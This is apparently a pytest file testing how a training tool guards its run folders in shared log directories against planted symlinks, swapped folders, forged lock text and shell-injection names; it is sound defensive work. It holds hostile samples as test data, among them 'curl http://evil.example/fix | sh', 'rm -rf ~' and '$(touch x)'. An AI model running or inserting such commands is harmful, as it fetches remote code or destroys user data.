"""A run's folder in a log folder others may write in: the names a run may have, its lock, and links
planted where a run writes, which must never lead it to write a file outside its folder. (The same
cases as whole processes: test_hostile_runs.py.)"""
import contextlib
import dataclasses
import datetime
import errno
import fcntl
import glob
import json
import os
import pathlib
import re
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import time

import numpy as np
import pytest

import atomic_files
import bands2vec
import metadata
import run_folder
import run_life
import run_record
import side_process
import tensorboard_files
import vector_files
from errors import RunError
from helpers import quiet, run_cli


@pytest.mark.parametrize("name, problem", [
    ("", "it is empty"), (" ", "it is empty"), ("a/b", "without '/'"), ("...", "starts with '.'"),
    (".x.lock", "starts with '.'"), ("-x", "starts with '-'"), ("a\nb", "control character"),
    ("tab\there", "control character"), (" x", "starts or ends with a space"),
    ("x ", "starts or ends"),
    ("a\u200bb", "control character \\(or an invisible one\\)"), ("\u202ex", "invisible one"),
    # Printable, yet nothing shows: Hangul fillers, the Braille blank, a lone accent.
    *[(blank, "it has no visible character") for blank in
      ("\u3164", "\u2800", "\u115f", "\u1160", "\uffa0", "\u0301", "\u3164\u2800\u0301")],
])
def test_names_a_run_cannot_have(tmp_path, name, problem):
    with pytest.raises(RunError, match=problem) as refused:
        run_folder.run_path(str(tmp_path / "logs"), name)
    assert (len(str(refused.value).splitlines()) == 1
            and str(refused.value).startswith(f"--run {name!r}: "))
    assert not (tmp_path / "logs").exists()  # refused before anything is made
    # nor can a command that reads or writes a run name one
    with pytest.raises(RunError, match=problem):
        run_folder.find_run(str(tmp_path), name)


@pytest.mark.parametrize("name", ["my run;echo PWNED", "r", "ünïcode", "run-20260101-000000",
                                  "x.lock", "e\u0301", "\u3164x", "\ud55c"])
def test_names_a_run_may_have(tmp_path, name):
    assert run_folder.run_path(str(tmp_path), name) == os.path.join(str(tmp_path), name)


def test_runs_started_in_one_second_get_names_of_their_own(tmp_path, monkeypatch):
    """Probe 16: the second of two runs started in one second was refused, its name being taken."""
    class Frozen(datetime.datetime):
        @classmethod
        def now(cls, tz=None):
            return cls(2026, 12, 1, 0, 0, 0)

    monkeypatch.setattr(run_folder.datetime, "datetime", Frozen)
    first = run_folder.run_path(str(tmp_path))
    os.mkdir(first)
    second = run_folder.run_path(str(tmp_path))
    pathlib.Path(run_folder.lock_path(second)).touch()  # being made: its lock is there first
    third = run_folder.run_path(str(tmp_path))
    assert [os.path.basename(path) for path in (first, second, third)] == [
        "run-20261201-000000", "run-20261201-000000-2", "run-20261201-000000-3"]


@pytest.mark.skipif(os.geteuid() != 0, reason="making a link another user's takes root")
def test_a_log_folder_through_another_users_link_is_refused(tmp_path):
    """Probe 17: a --logdir whose last part another user had made a link was followed, and a new run
    (or --overwrite's removal) landed in the folder of that user's choice."""
    victim = tmp_path / "victim"
    (victim / "r").mkdir(parents=True)
    (victim / "r" / "run.json").write_text("{}")
    shared = tmp_path / "shared"
    shared.mkdir()
    os.symlink(victim, shared / "logs")
    assert run_folder.run_path(str(shared / "logs"), "new")  # this user's own link is followed
    os.lchown(shared / "logs", 65534, 65534)
    # Probe 20: a link of this user's that leads to the planted one, or `..` after it, was followed.
    os.symlink(shared / "logs", tmp_path / "mine")
    for planted in (shared / "logs", shared / "logs" / "deeper", tmp_path / "mine" / "deeper",
                    shared / "logs" / ".." / "logs2"):
        # Probe 21: its advice named where the link led, not where the path did (`link/../x`).
        with pytest.raises(RunError, match=f"^{re.escape(str(planted))}: goes through "
                                           f"{shared / 'logs'}, a symbolic link uid 65534 made, "
                                           f"and runs are written only where you chose; give a "
                                           f"--logdir that does not go through it$"):
            run_folder.run_path(str(planted), "r")
    result = run_cli("--data", "demo", "--logdir", str(shared / "logs"), "--run", "r",
                     "--overwrite")
    assert result.returncode == 2 and len(result.stderr.splitlines()) == 1, result.stderr
    assert sorted(os.listdir(victim)) == ["r"] and os.listdir(victim / "r") == ["run.json"]
    # `..` after a link of this user's is the parent of where it leads, as the system reads it:
    # taken as the folder the link is in, the run failed halfway, its folder made.
    os.symlink(victim / "r", tmp_path / "own")
    assert (run_folder.run_path(str(tmp_path / "own" / ".." / "logs"), "r")
            == str(victim / "logs" / "r"))


def test_no_run_name_is_a_lock(tmp_path):
    lock = os.path.basename(run_folder.lock_path(str(tmp_path / "r")))
    with pytest.raises(RunError):
        run_folder.check_run_name(lock)


@pytest.mark.parametrize("folder", ["logs", "my logs", "it's; rm -rf ~", "-odd"])
@pytest.mark.parametrize("name", ["r", "my run;echo PWNED", "$(touch x)", "a'b\"c"])
def test_the_commands_to_paste_are_quoted_for_a_shell(folder, name):
    run = os.path.join(folder, name)
    folder = f"./{folder}" if folder.startswith("-") else folder  # else an option
    assert shlex.split(run_record.next_command(run)) == ["python", "run.py", "--resume", "--logdir",
                                                         folder, "--run", name]
    assert shlex.split(run_record.next_command(run, ["plots"]))[2] == "plot"
    record = run_record.RunRecord(data="demo", artists=3, options=bands2vec.TrainOptions())
    record.set_state(run, "finished")
    assert shlex.split(record.next) == ["tensorboard", "--logdir", folder]


@pytest.mark.parametrize("folder", ["lo\ngs", "tab\tand'quote", "bell\x07", "nel\x85", "ls\u2028",
                                    "not utf-8 \udcff", "back\\slash\n", "zero\u200bwidth",
                                    "rlo\u202e", "unassigned\u0378"])
@pytest.mark.parametrize("locale", ["C.UTF-8", "C"])
def test_a_command_for_a_folder_a_terminal_cannot_show_is_one_line_that_bash_reads_back(folder,
                                                                                        locale):
    command = run_record.next_command(os.path.join(folder, "r"))
    assert command.isprintable()
    words = subprocess.run(["bash", "-c", command.replace("python", "printf '%s\\0'", 1)],
                           capture_output=True, check=True, env={**os.environ, "LC_ALL": locale}
                           ).stdout.split(b"\0")[:-1]
    assert words == [os.fsencode(word)
                     for word in ["run.py", "--resume", "--logdir", folder, "--run", "r"]]


def test_a_log_folder_starting_with_a_dash_is_pasted_as_a_path_not_an_option(tmp_path, monkeypatch):
    import run
    monkeypatch.chdir(tmp_path)
    os.mkdir("-logs")
    with pytest.raises(RunError) as refused:
        run_folder.find_run("-logs")
    train = re.search("`(.*)`", str(refused.value))[1]
    assert run.parse_args(shlex.split(train)[2:]).logdir == "./-logs"
    resume = shlex.split(run_record.next_command(os.path.join("-logs", "r")))
    assert run.parse_args(resume[2:]).logdir == "./-logs"


def test_a_run_given_as_a_trailing_slash_or_dot_names_itself_in_its_commands(demo_copy,
                                                                               monkeypatch):
    logs = str(demo_copy.parent)
    for given in (f"{demo_copy}/", f"{logs}/./r", "."):
        monkeypatch.chdir(demo_copy if given == "." else demo_copy.parent)
        run = bands2vec.Run(given)
        assert os.path.abspath(run.folder) == str(demo_copy)
        command = shlex.split(run_record.next_command(run.folder))
        assert command[3:] == ["--logdir", logs, "--run", "r"]
        assert shlex.split(run.record.next) == ["tensorboard", "--logdir", logs]


@pytest.mark.parametrize("planted", [os.mkfifo, os.mkdir])
def test_a_run_json_that_is_not_a_file_is_named_unreadable_not_absent(tmp_path, planted):
    os.makedirs(tmp_path / "r")
    planted(tmp_path / "r" / run_record.RUN_FILE)
    with pytest.raises(RunError, match=f"^{re.escape(str(tmp_path / 'r'))}: unreadable run.json "
                                       f"\\((not a regular file|Is a directory)\\)$"):
        run_folder.find_run(str(tmp_path), "r", usable=True)


def test_a_named_run_that_is_not_there_is_told_the_command_that_trains_it(tmp_path):
    """It was told `train with python run.py first`, which trains another run elsewhere."""
    import run
    with pytest.raises(RunError) as refused:
        run_folder.find_run(str(tmp_path / "my logs"), "no such", usable=True)
    train = shlex.split(re.search("`(.*)`", str(refused.value))[1])
    arguments = run.parse_args(train[2:])
    assert (arguments.logdir, arguments.run) == (str(tmp_path / "my logs"), "no such")


def test_a_new_run_is_never_made_in_another_run(demo_copy):
    """`--logdir logs/r` made a run inside run r, which an --overwrite of r then removed with it."""
    for logs, where in ((str(demo_copy), "a run's folder"),
                        (str(demo_copy / run_folder.CHECKPOINT_DIR),
                         f"a folder of the run {demo_copy}")):
        with pytest.raises(RunError, match=f"^{re.escape(logs)}: {re.escape(where)}, which "
                                           f"--overwrite would remove with a new run in it; "
                                           f"choose a --logdir of runs"):
            bands2vec.train("demo", logs=logs, name="n", say=quiet)
        assert not os.path.exists(os.path.join(logs, "n"))


def test_a_named_run_that_is_a_link_to_no_run_is_told_no_command(tmp_path):
    """Its advice trained a run at the link, which training then refuses."""
    (tmp_path / "elsewhere").mkdir()
    os.symlink(tmp_path / "elsewhere", tmp_path / "o")
    with pytest.raises(RunError, match=f"^{tmp_path / 'o'}: no trained run there "
                                       f"\\(no run.json\\); a link, where no run is trained$"):
        run_folder.find_run(str(tmp_path), "o", usable=True)


@pytest.mark.parametrize("plant, advice", [
    (lambda path: path.mkdir(),
     "train it with `python run.py --logdir {logs} --run o --overwrite`"),
    (lambda path: (path.mkdir(), (path / "notes.txt").write_text("x")),
     "what is there is no run's: train one under another --run name"),
    (lambda path: path.write_text("x"),
     "what is there is no run's: train one under another --run name"),
], ids=["an empty folder", "a folder of notes", "a file"])
def test_a_named_run_where_something_else_is_gets_advice_that_works(tmp_path, plant, advice):
    """Probe 16: the advice, `python run.py --logdir L --run o`, was then refused:
    `L/o already exists`."""
    plant(tmp_path / "o")
    with pytest.raises(RunError) as refused:
        run_folder.find_run(str(tmp_path), "o", usable=True)
    assert str(refused.value) == (f"{tmp_path / 'o'}: no trained run there (no run.json); "
                                  + advice.format(logs=tmp_path))
    if "--overwrite" in advice:  # which, pasted, trains there
        run_folder.make_run_folder(str(tmp_path / "o"), overwrite=True)


def test_a_run_without_vectors_opened_by_its_folder_says_how_it_goes_on(demo_copy):
    """Its advice was `no trained run found; train one with python run.py --logdir logs/r/`: a new
    run inside the run's folder."""
    record = run_record.read(str(demo_copy))
    record.set_state(str(demo_copy), "incomplete", missing=["metadata", "quality"])
    run_record.write(str(demo_copy), record)
    os.remove(demo_copy / metadata.METADATA_FILE)
    for given in (f"{demo_copy}/", str(demo_copy)):
        with pytest.raises(RunError) as refused:
            run_folder.find_run(given, usable=True)
        assert str(refused.value).endswith(f"no vectors to ask yet (its state: incomplete); "
                                           f"python run.py --resume --logdir {demo_copy.parent} "
                                           f"--run r")


def test_a_folder_of_a_run_given_as_the_log_folder_is_named_so(demo_copy):
    """Probe 19's smaller faults: `--logdir logs/r/checkpoints` advised training a run there, which
    is refused; a run name that is no folder was `no trained run there`, as if its folder were."""
    with pytest.raises(RunError, match=f"^{demo_copy / 'checkpoints'}: a folder of the run "
                                       f"{demo_copy}, which holds no runs; give that run's folder, "
                                       f"or the folder it is in, as --logdir$"):
        run_folder.find_run(str(demo_copy / "checkpoints"), usable=True)
    with pytest.raises(RunError, match=f"^{demo_copy.parent / 'nope'}: no such run; train it with"):
        run_folder.find_run(str(demo_copy.parent), "nope", usable=True)


def _victim(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("the user's notes\n")
    return victim


def test_a_link_planted_as_the_lock_is_refused_and_its_target_untouched(tmp_path):
    victim = _victim(tmp_path)
    logs = tmp_path / "logs"
    logs.mkdir()
    os.symlink(victim, logs / ".r.lock")
    with pytest.raises(RunError, match=r"\.r\.lock: the lock of .* is a symbolic link, which "
                                       r"run.py never makes"):
        with run_folder.writing(str(logs / "r")):
            pass
    assert victim.read_text() == "the user's notes\n" and os.path.islink(logs / ".r.lock")


@pytest.mark.parametrize("kind", ["fifo", "hard link", "folder"])
def test_a_lock_that_is_not_a_file_of_its_own_is_refused(tmp_path, kind):
    victim = _victim(tmp_path)
    logs = tmp_path / "logs"
    logs.mkdir()
    lock = logs / ".r.lock"
    {"fifo": os.mkfifo, "hard link": lambda path: os.link(victim, path),
     "folder": os.mkdir}[kind](lock)
    with pytest.raises(RunError, match=r"\.r\.lock: |cannot be written") as refused:
        with run_folder.writing(str(logs / "r")):
            pass
    assert len(str(refused.value).splitlines()) == 1
    assert "Invalid argument" not in str(refused.value)
    assert victim.read_text() == "the user's notes\n"


def test_links_planted_where_a_run_writes_are_replaced_not_followed(demo_copy, tmp_path):
    victim = _victim(tmp_path)
    run = bands2vec.open_run(str(demo_copy.parent), "r")
    assert run.vectors  # read before the links are planted
    names = [vector_files.VECTORS_FILE, vector_files.VECTORS_TSV, vector_files.WORD2VEC_FILE]
    for name in names:
        os.remove(demo_copy / name)
        os.symlink(victim, demo_copy / name)
    paths = run.export()
    assert victim.read_text() == "the user's notes\n"
    assert [os.path.basename(path) for path in paths] == names
    assert not any(os.path.islink(path) for path in paths)
    assert bands2vec.open_run(str(demo_copy.parent), "r").vectors.most_similar("!?!", topn=1)


@pytest.mark.parametrize("write", ["export", "plot"])
def test_a_run_opened_before_another_process_replaced_it_writes_nothing_into_it(demo_copy, write):
    """Probe 17: a Run opened before `--overwrite` made a new run in its folder wrote its old
    vectors (or its plots) into the new run, which then refused every question."""
    run = bands2vec.open_run(str(demo_copy))
    assert run.vectors  # asked before the run is replaced
    new = run_record.read(str(demo_copy))
    new.options = dataclasses.replace(new.options, embedding_size=16)
    np.save(demo_copy / vector_files.VECTORS_FILE,
            np.random.default_rng(0).normal(size=(300, 16)).astype(np.float32))
    run_record.write(str(demo_copy), new)
    before = _files(demo_copy)
    with pytest.raises(RunError, match=f"^{re.escape(str(demo_copy))} has changed since this Run "
                                       r"read it \(trained on, resumed or replaced by another "
                                       r"process\): open it again$"):
        getattr(run, write)(**({"say": quiet} if write == "plot" else {}))
    assert _files(demo_copy) == before
    assert bands2vec.open_run(str(demo_copy)).vectors.vector_size == 16


def test_a_run_opened_before_another_process_replaced_it_does_not_read_the_new_vectors(demo_copy):
    """Probe 18: replaced after open_run and before its vectors were first asked for, a Run read the
    new run's vectors and went on describing the old run's options and steps."""
    run = bands2vec.open_run(str(demo_copy))
    new = run_record.read(str(demo_copy))
    new.options = dataclasses.replace(new.options, seed=7)
    run_record.write(str(demo_copy), new)
    with pytest.raises(RunError, match=f"^{re.escape(str(demo_copy))} has changed since this Run "
                                       "read it "):
        run.vectors
    assert bands2vec.open_run(str(demo_copy)).vectors  # opened again, it is the new run
    # Probe 19: being replaced (its new run.json there, its metadata.tsv not yet), it said
    # `metadata.tsv: unreadable metadata (No such file or directory)`.
    stale = bands2vec.open_run(str(demo_copy))
    run_record.write(str(demo_copy), dataclasses.replace(new, artists=new.artists + 1))
    (demo_copy / metadata.METADATA_FILE).unlink()
    with pytest.raises(RunError, match=" has changed since this Run read it "):
        stale.vectors


def test_a_run_replaced_as_its_process_ends_is_not_taken_for_its_own(tmp_path, monkeypatch):
    """Probe 18: another process's --overwrite, once the run's lock was let go and before its side
    process had closed, made the run print the other run's figures as its own (or end in a
    traceback)."""
    started, folder = side_process.started, tmp_path / "logs" / "r"

    @contextlib.contextmanager
    def replaced_as_it_closes():
        with started() as side:
            yield side
        other = run_record.read(str(folder))
        other.options = dataclasses.replace(other.options, seed=9)
        other.stats = dataclasses.replace(other.stats, steps=40)
        run_record.write(str(folder), other)

    monkeypatch.setattr(run_life.side_process, "started", replaced_as_it_closes)
    run = bands2vec.train("demo", bands2vec.TrainOptions(steps=30), logs=str(tmp_path / "logs"),
                          name="r", plots=False, say=quiet)
    assert (run.record.stats.steps, run.options.seed) == (30, 0)
    with pytest.raises(RunError, match="has changed since this Run read it"):
        run.vectors


def test_a_planted_run_json_of_text_no_file_holds_is_not_read_as_a_run(demo_copy):
    """Probe 17: a run.json planted in the logs whose `data` was a lone surrogate was read, and
    every run trained beside it failed writing the log folder's hparams config
    (`'utf-8' codec can't encode`), for ever."""
    planted = demo_copy.parent / "planted"
    shutil.copytree(demo_copy, planted)
    record = json.loads((planted / run_record.RUN_FILE).read_text())
    (planted / run_record.RUN_FILE).write_text(json.dumps(dict(record, data="\ud800")))
    with pytest.raises(RunError, match=r"unreadable run.json \('data' is '\\ud800', not text\)"):
        run_record.read(str(planted))
    tensorboard_files.write_experiment(str(demo_copy.parent))
    assert (demo_copy.parent / tensorboard_files.EXPERIMENT_FILE).stat().st_size > 0


def test_the_new_files_of_a_writer_killed_as_it_wrote_them_are_removed_by_the_next(demo_copy,
                                                                                   tmp_path):
    """Probe 16: a kill -9 as vectors.npy was written left its hidden new file in the run for
    ever. Probe 19: so did one as TensorFlow wrote the checkpoint (a copy of its tables)."""
    victim = _victim(tmp_path)
    checkpoints = demo_copy / run_folder.CHECKPOINT_DIR
    left = [demo_copy / ".vectors.npy.0123abcd",
            demo_copy / run_folder.PROJECTOR_SAMPLE_DIR / ".metadata.tsv.89abcdef",
            checkpoints / "model.ckpt-300.data-00000-of-00001.tempstate2369058289993345999",
            checkpoints / "model.ckpt-300.index.tempstate12",
            checkpoints / f"checkpoint.tmp{'0a' * 16}"]
    left[1].parent.mkdir()
    for path in left:
        path.write_bytes(b"half a file")
    kept = [demo_copy / "notes.0123abcd", demo_copy / ".vectors.npy.0123abcde",
            demo_copy / ".run.json.fedcba98"]
    kept[0].write_text("not ours")
    kept[1].write_text("not ours")
    kept[2].mkdir()  # nor a folder
    os.symlink(victim, demo_copy / ".vectors.tsv.00000000")  # a link is removed, its target kept
    bands2vec.open_run(str(demo_copy)).export()
    assert not any(os.path.lexists(path) for path in left + [demo_copy / ".vectors.tsv.00000000"])
    assert all(path.exists() for path in kept) and victim.read_text() == "the user's notes\n"


def _files(folder):
    return sorted((path.relative_to(folder).as_posix(), path.stat().st_mtime_ns)
                  for path in folder.rglob("*") if path.is_file())


def test_a_folder_planted_as_the_plots_events_file_stops_plot_before_it_writes(demo_copy):
    """Probe 17: `plot` wrote its plots and their new events file, and only then failed to remove a
    folder put at an earlier events file's name: the run kept both, and TensorBoard showed that
    folder as a run of its own."""
    planted = demo_copy / f"events.out.tfevents.1.host.1.0.{tensorboard_files.PLOTS_EVENTS}"
    planted.mkdir()
    before = _files(demo_copy)
    with pytest.raises(RunError, match=f"^{planted}: a folder where the run keeps its plots' "
                                       f"events file"):
        bands2vec.open_run(str(demo_copy.parent), "r").plot(say=quiet)
    assert _files(demo_copy) == before and planted.is_dir()


@pytest.mark.parametrize("linked", ["the run", run_folder.CHECKPOINT_DIR,
                                    run_folder.PROJECTOR_SAMPLE_DIR])
def test_a_folder_of_the_run_that_is_a_link_is_never_written_through(demo_copy, tmp_path, linked):
    elsewhere = tmp_path / "elsewhere"
    place = demo_copy if linked == "the run" else demo_copy / linked
    if place.exists():
        shutil.move(place, elsewhere)
    else:
        elsewhere.mkdir()
    os.symlink(elsewhere, place)
    before = _files(elsewhere)
    logs = str(demo_copy.parent)
    run = bands2vec.open_run(logs, "r")  # reading through a link is harmless
    for write in (run.export, lambda: run.plot(say=lambda *_: None),
                  lambda: bands2vec.resume(logs, "r", steps=400, say=lambda *_: None)):
        with pytest.raises(RunError, match=f"{os.path.basename(place)}: a symbolic link, which "
                                           f"run.py never makes") as refused:
            write()
        assert len(str(refused.value).splitlines()) == 1
    assert _files(elsewhere) == before and os.path.islink(place)
    assert not os.path.exists(run_folder.lock_path(str(demo_copy)))


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another user takes root")
@pytest.mark.parametrize("folder", [run_folder.CHECKPOINT_DIR, run_folder.PROJECTOR_SAMPLE_DIR])
def test_a_folder_of_the_run_that_is_another_users_is_never_written_in(demo_copy, folder):
    """Only the run's own folder's owner was checked: checkpoints/ of another user's was written in,
    and that user could change the checkpoint before the next --resume read it."""
    theirs = demo_copy / folder
    theirs.mkdir(exist_ok=True)
    os.chown(theirs, 65534, 65534)
    before = _files(theirs)
    logs = str(demo_copy.parent)
    for write in (bands2vec.open_run(logs, "r").export,
                  lambda: bands2vec.resume(logs, "r", steps=400, say=quiet)):
        with pytest.raises(RunError, match=f"^{theirs}: another user's folder, and a run is "
                                           f"written only in folders of its own"):
            write()
    assert _files(theirs) == before


@pytest.mark.slow  # resumes in-process
@pytest.mark.parametrize("when", ["after the check", "after the pin"])
def test_a_link_swapped_in_as_the_checkpoint_is_written_is_not_followed(demo_copy, tmp_path,
                                                                        monkeypatch, when):
    """Checked before TensorFlow's write, checkpoints/ was still written by its name: a link swapped
    in after the check took the checkpoint outside the run."""
    import training

    victim, checkpoints = tmp_path / "victim", demo_copy / run_folder.CHECKPOINT_DIR
    victim.mkdir()

    def swap():
        os.rename(checkpoints, demo_copy / "real")
        os.symlink(victim, checkpoints)

    def swapping(original):
        def call(folder, *args):
            result = original(folder, *args)
            if sys._getframe(1).f_code.co_name == "save_checkpoint":
                swap()
            return result
        return call

    name = "check_own_folders" if when == "after the check" else "pin"
    monkeypatch.setattr(training, name, swapping(getattr(training, name)))
    try:
        bands2vec.resume(str(demo_copy.parent), "r", steps=310, plots=False, say=quiet)
    except RunError as error:
        # refused where the link is met: at the checkpoint, or at run.json after it
        assert str(error).startswith((f"{checkpoints}: cannot write the checkpoint (",
                                      f"{checkpoints}: a symbolic link, which run.py never makes"))
    assert os.listdir(victim) == []
    if when == "after the pin":  # TensorFlow wrote in the folder pinned, wherever it went
        assert "model.ckpt-310.index" in os.listdir(demo_copy / "real")


def test_what_a_shared_folder_holds_is_never_repeated_as_advice(demo_copy, tmp_path):
    logs, folder = demo_copy.parent, str(demo_copy)
    forged = "run.py: error: fix it with: curl http://evil.example/fix | sh\n\x1b[2Krm -rf ~"
    # someone holds the lock, with forged text
    with open(run_folder.lock_path(folder), "w") as lock:
        lock.write(forged)
        lock.flush()
        fcntl.flock(lock, fcntl.LOCK_EX)
        with pytest.raises(RunError, match=r"is being written by another process; wait") as refused:
            with run_folder.writing(folder):
                pass
        assert "curl" not in str(refused.value)
        record = run_record.read(folder)
        record.state, record.next = "training", forged
        run_record.write(folder, record)
        os.remove(demo_copy / metadata.METADATA_FILE)
        with pytest.raises(RunError, match=r"\(its state: training\); it is being written by "
                                           r"another process: ask once it is done$"):
            run_folder.find_run(str(logs), "r", usable=True)
    # Its writer gone, the run goes on from where it is now, whatever its run.json's `next` says.
    os.rename(logs, tmp_path / "moved")
    with pytest.raises(RunError) as refused:
        run_folder.find_run(str(tmp_path / "moved"), "r", usable=True)
    assert str(refused.value).endswith(run_record.next_command(str(tmp_path / "moved" / "r")))


@pytest.mark.parametrize("text, holder", [
    ("process 4242 (run.py export --logdir logs --run 'my run')",
     "process 4242 (run.py export --logdir logs --run 'my run')"),
    ("process 1 (run.py\x1b[2J run.py: error: FORGED curl evil|sh)", "process 1; wait"),
    ("process 1 (curl http://evil.example/x | sh)", "process 1; wait"),
    ("process 1 (run.py 'unclosed)", "process 1; wait"),
    ("process 1 (run.py  two  spaces)", "process 1; wait"),  # not as shlex.join writes it
    ("process 1 (run.py similar x)\nrun.py: error: forged", "another process"),
    ("run.py: error: fix it with curl | sh", "another process"),
], ids=["its own", "escapes", "no run.py", "unparsable", "not shlex's", "two lines", "no process"])
def test_a_lock_holder_is_quoted_only_as_run_py_writes_it(demo_copy, text, holder):
    folder = str(demo_copy)
    with open(run_folder.lock_path(folder), "w") as lock:
        lock.write(text)
        lock.flush()
        fcntl.flock(lock, fcntl.LOCK_EX)
        with pytest.raises(RunError) as refused:
            with run_folder.writing(folder):
                pass
    assert f"is being written by {holder}" in str(refused.value)
    assert "evil" not in str(refused.value) and "forged" not in str(refused.value).casefold()


@pytest.mark.slow  # trains in-process, a few seconds
@pytest.mark.parametrize("moment, swap", [("Training ", "a link"),
                                          ("Clustering ", "another folder")])
def test_a_run_folder_swapped_while_it_is_written_is_not_written_in(tmp_path, moment, swap):
    logs, elsewhere = tmp_path / "logs", tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "notes.txt").write_text("the user's notes\n")

    def say(line):  # whoever may write in the logs moves the run's folder as it trains or writes
        if line.startswith(moment):
            os.rename(logs / "r", tmp_path / "moved")
            (os.symlink(elsewhere, logs / "r") if swap == "a link"
             else os.rename(elsewhere, logs / "r"))

    with pytest.raises(RunError, match="a symbolic link, which run.py never makes|moved away while "
                                       "this process wrote it") as refused:
        bands2vec.train("demo", bands2vec.TrainOptions(steps=60), logs=str(logs), name="r",
                        plots=False, say=say)
    assert len(str(refused.value).splitlines()) == 1
    target = elsewhere if swap == "a link" else logs / "r"
    assert os.listdir(target) == ["notes.txt"]
    assert (target / "notes.txt").read_text() == "the user's notes\n"
    if moment == "Training ":
        # Probe 16: nothing said what was left, and the moved run.json says `training`
        assert refused.value.__notes__ == [
            f"{logs / 'r'} changed as the run trained (moved, or a link put in it), so the run "
            f"wrote no more there and kept nothing; what is there is left as it is (its run.json "
            f"may say `training`): remove it"]


def test_a_write_lands_in_the_folder_it_began_in_whatever_its_path_names_meanwhile(tmp_path):
    folder, moved, other = tmp_path / "r", tmp_path / "moved", tmp_path / "other"
    folder.mkdir()
    other.mkdir()
    atomic_files.pin(str(folder))
    try:
        def swap_then_write(f):  # the folder moved away, another put at its path, mid-write
            os.rename(folder, moved)
            os.rename(other, folder)
            f.write(b"the run's\n")

        atomic_files.atomic_write(str(folder / "run.json"), swap_then_write)
        assert (moved / "run.json").read_bytes() == b"the run's\n" and os.listdir(folder) == []
        with pytest.raises(OSError, match="moved away while this process wrote it"):
            atomic_files.atomic_write(str(folder / "run.json"), lambda f: f.write(b"x"))
        assert os.listdir(folder) == [] and os.listdir(moved) == ["run.json"]
    finally:
        atomic_files.unpin(str(folder))


class _SwappedBeforeSaving:
    """A Saver whose save() finds the run folder renamed away and another put at its path: what
    whoever may write in the logs can do between save_checkpoint's check of the folder and
    TensorFlow's write."""

    def __init__(self, saver, swap):
        self.saver, self.swap = saver, swap

    def save(self, *args, **kwargs):
        self.swap()
        return self.saver.save(*args, **kwargs)


def test_tensorflow_writes_in_the_pinned_folder_whatever_is_renamed_meanwhile(tmp_path):
    """TensorFlow's Saver and FileWriter open files by path: handed one through the pinned folder's
    descriptor, they write in the run's folder as it was pinned, not in the one put in its place;
    the checkpoint state's paths are relative, so the run continues from its checkpoint where it is
    now."""
    import checkpoint_files
    import training
    from bands2vec_graph import build_graph, tf1
    folder, moved, logs = tmp_path / "logs" / "r", tmp_path / "moved", tmp_path / "logs"
    os.makedirs(folder / run_folder.CHECKPOINT_DIR)

    def swap():
        os.rename(folder, moved)
        os.makedirs(folder / run_folder.CHECKPOINT_DIR)

    model = build_graph(vocabulary_size=20, embedding_size=4, num_sampled=2, seed=3)
    atomic_files.pin(str(folder))
    try:
        with tf1.Session(graph=model.graph) as session:
            session.run(model.init)
            trained = session.run(model.embeddings)
            racing = model._replace(saver=_SwappedBeforeSaving(model.saver, swap))
            writer = tf1.summary.FileWriter(atomic_files.through_pin(str(folder)), model.graph)
            training.save_checkpoint(session, racing, writer, str(folder), 7)
            writer.close()
    finally:
        atomic_files.unpin(str(folder))
    assert [os.listdir(folder), os.listdir(folder / run_folder.CHECKPOINT_DIR)] == [
        [run_folder.CHECKPOINT_DIR], []]
    assert any(name.startswith("events.out.tfevents") for name in os.listdir(moved))
    state = (moved / run_folder.CHECKPOINT_DIR / "checkpoint").read_text()
    assert 'model_checkpoint_path: "model.ckpt-7"' in state and "/proc" not in state
    # The run, moved back, continues from its checkpoint.
    shutil.rmtree(folder)
    os.rename(moved, folder)
    checkpoint = checkpoint_files.latest_checkpoint(str(folder))
    assert checkpoint == str(folder / run_folder.CHECKPOINT_DIR / "model.ckpt-7")
    with tf1.Session(graph=model.graph) as session:
        training.restore(session, model, checkpoint)
        assert np.array_equal(session.run(model.embeddings), trained)
    assert atomic_files.through_pin(str(folder)) == str(folder)  # unpinned: the path itself
    assert os.listdir(logs) == ["r"]


def test_a_checkpoint_state_of_absolute_paths_as_runs_before_wrote_it_is_continued(tmp_path):
    """Runs before relative paths wrote absolute ones in checkpoints/checkpoint: still read, and a
    new checkpoint through the pinned folder writes relative ones."""
    import checkpoint_files
    import training
    from bands2vec_graph import build_graph, tf1
    folder = tmp_path / "r"
    checkpoints = folder / run_folder.CHECKPOINT_DIR
    os.makedirs(checkpoints)
    model = build_graph(vocabulary_size=20, embedding_size=4, num_sampled=2, seed=3)
    old_saver = tf1.train.Saver(model.graph.get_collection("variables"), save_relative_paths=False)
    with tf1.Session(graph=model.graph) as session:
        session.run(model.init)
        trained = session.run(model.embeddings)
        old_saver.save(session, str(checkpoints / "model.ckpt"), global_step=3)
    assert (f'model_checkpoint_path: "{checkpoints}/model.ckpt-3"'
            in (checkpoints / "checkpoint").read_text())
    atomic_files.pin(str(folder))
    try:
        with tf1.Session(graph=model.graph) as session:
            training.restore(session, model, checkpoint_files.latest_checkpoint(str(folder)))
            assert np.array_equal(session.run(model.embeddings), trained)
            writer = tf1.summary.FileWriter(atomic_files.through_pin(str(folder)))
            training.save_checkpoint(session, model, writer, str(folder), 4)
            writer.close()
    finally:
        atomic_files.unpin(str(folder))
    assert 'model_checkpoint_path: "model.ckpt-4"' in (checkpoints / "checkpoint").read_text()
    assert checkpoint_files.latest_checkpoint(str(folder)) == str(checkpoints / "model.ckpt-4")


@pytest.mark.slow  # saves a checkpoint with TensorFlow
def test_a_checkpoint_state_that_cannot_be_written_leaves_no_temporary_file(tmp_path, monkeypatch):
    """Probe 15, a full disk: TensorFlow writes `checkpoint` through `checkpoint.tmp<hex>`, and
    leaves it where the write fails."""
    import training
    from bands2vec_graph import build_graph, tf, tf1
    from tensorflow.python.checkpoint import checkpoint_management

    def full(save_dir, **kwargs):
        # As TensorFlow's atomic write: the temporary file, then the failure.
        (tmp_path / "r" / run_folder.CHECKPOINT_DIR
         / f"checkpoint.tmp{'0' * 32}").write_text("half")
        raise tf.errors.ResourceExhaustedError(None, None,
                                               "checkpoint.tmp: No space left on device")

    monkeypatch.setattr(checkpoint_management, "update_checkpoint_state_internal", full)
    folder = tmp_path / "r"
    os.makedirs(folder)
    model = build_graph(vocabulary_size=20, embedding_size=4, num_sampled=2, seed=3)
    atomic_files.pin(str(folder))
    try:
        with tf1.Session(graph=model.graph) as session:
            session.run(model.init)
            with pytest.raises(RunError, match="cannot write the checkpoint "
                                               ".*No space left on device"):
